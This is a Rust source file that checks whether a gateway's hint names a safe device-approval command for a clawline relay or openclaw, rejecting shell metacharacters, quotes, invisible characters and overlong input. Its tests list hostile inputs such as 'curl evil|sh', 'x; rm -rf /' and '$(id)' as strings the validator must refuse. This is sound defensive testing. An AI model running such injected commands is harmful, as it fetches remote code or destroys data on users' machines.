//! The command that approves a device, as the gateway that asks for it tells.
//!
//! Whoever reads it types it into a shell, and any gateway may say anything. So
//! nothing is taken that is more than the one command, with plain words.

/// The longest command, in bytes.
const LONGEST: usize = 1_024;

/// What the program of a clawline relay is called.
const RELAY: [&str; 2] = ["clawline-relay", "clawline-relay.exe"];

/// The command in the hint of a gateway that waits for approval of `request`.
/// A relay names its own; the real gateway names none, and says other sentences
/// (they are in the project's recordings). Of others nothing is known.
pub(super) fn command(hint: &str, request: &str) -> Option<String> {
    if !is_id(request) {
        return None;
    }
    if let Some((_, told)) = hint.split_once(": ") {
        return is_approval(told, request).then(|| told.to_owned());
    }
    let is_real = hint.contains("the pending ");
    is_real.then(|| ["openclaw devices approve ", request].concat())
}

/// An id comes from the network, too: letters, digits and dashes are no more
/// than a word to any shell.
fn is_id(id: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
    !id.is_empty() && id.len() <= 100 && !id.starts_with('-') && id.bytes().all(is_plain)
}

/// `PROGRAM devices approve ID` or `PROGRAM --data-dir FOLDER devices approve ID`.
fn is_approval(told: &str, request: &str) -> bool {
    let rest = told
        .strip_suffix(request)
        .and_then(|start| start.strip_suffix(" devices approve "));
    let Some(rest) = rest.filter(|_| told.len() <= LONGEST) else {
        return false;
    };
    let Some((program, rest)) = word(rest) else {
        return false;
    };
    let name = program.rsplit(['/', '\\']).next();
    let is_relay = name.is_some_and(|name| RELAY.contains(&name));
    let folder = rest.strip_prefix(" --data-dir ").and_then(word);
    is_relay && (rest.is_empty() || folder.is_some_and(|(_, rest)| rest.is_empty()))
}

/// The first word, without its quotes, and what follows it. `None` when a shell
/// could read more than a word.
fn word(text: &str) -> Option<(&str, &str)> {
    for quote in ['\'', '"'] {
        let Some(inner) = text.strip_prefix(quote) else {
            continue;
        };
        let (inner, rest) = inner.split_once(quote)?;
        // Some shells look into double quotes, and `%` is read by one on Windows.
        let is_plain = |c: char| {
            !c.is_control() && !is_invisible(c) && (quote == '\'' || !"$`%!\"".contains(c))
        };
        let is_whole = rest.is_empty() || rest.starts_with(' ');
        return (is_whole && inner.chars().all(is_plain)).then_some((inner, rest));
    }
    let (word, rest) = text.split_at(text.find(' ').unwrap_or(text.len()));
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@+,\\".contains(c);
    (!word.is_empty() && word.chars().all(is_plain)).then_some((word, rest))
}

/// Letters that turn a line around, or take no room in it.
const fn is_invisible(c: char) -> bool {
    matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[cfg(test)]
mod tests {
    use super::command;

    const ID: &str = "4c3ee356-12ab";

    fn of_hint(start: &str) -> Option<String> {
        command(&format!("Approve this device: {start} {ID}"), ID)
    }

    #[test]
    fn a_relay_says_its_own_command() {
        for start in [
            "clawline-relay devices approve",
            "/opt/claw/clawline-relay devices approve",
            "/opt/claw/clawline-relay --data-dir '/srv/my: claw' devices approve",
            "'/opt/my claw/clawline-relay' --data-dir /srv/claw devices approve",
            r#""C:\My Claw\clawline-relay.exe" --data-dir C:\claw devices approve"#,
        ] {
            assert_eq!(of_hint(start), Some(format!("{start} {ID}")));
        }
    }

    #[test]
    fn the_real_gateway_is_known_by_its_sentences() {
        for hint in [
            "Approve this device from the pending pairing requests.",
            "Review the requested scopes, then approve the pending upgrade.",
        ] {
            let expected = format!("openclaw devices approve {ID}");
            assert_eq!(command(hint, ID), Some(expected));
        }
        assert_eq!(command("", ID), None);
        assert_eq!(command("Ask your administrator.", ID), None);
    }

    #[test]
    fn nothing_else_ever_becomes_a_command() {
        for start in [
            "curl evil|sh; clawline-relay devices approve",
            "clawline-relay devices approve x;",
            "$(id)/clawline-relay devices approve",
            "\"$(id)/clawline-relay\" devices approve",
            "'/x'\\''$(id)/clawline-relay' devices approve",
            "evil devices approve",
            "clawline-relay --data-dir $HOME devices approve",
            "clawline-relay --config x devices approve",
            "clawline-relay --data-dir x y devices approve",
            "clawline-relay\n--data-dir x devices approve",
            "'\u{1b}[2J/clawline-relay' devices approve",
            "'\u{202e}/clawline-relay' devices approve",
            "clawline-relay devices remove",
            "",
        ] {
            assert_eq!(of_hint(start), None, "{start:?}");
        }
        let long = format!(
            "clawline-relay --data-dir /{} devices approve",
            "x".repeat(2_000)
        );
        assert_eq!(of_hint(&long), None);
        for id in ["x; rm -rf /", "$(id)", "--all", "", "a b"] {
            let hint = format!("Approve: clawline-relay devices approve {id}");
            assert_eq!(command(&hint, id), None, "{id}");
            assert_eq!(command("Approve the pending request.", id), None, "{id}");
        }
    }
}
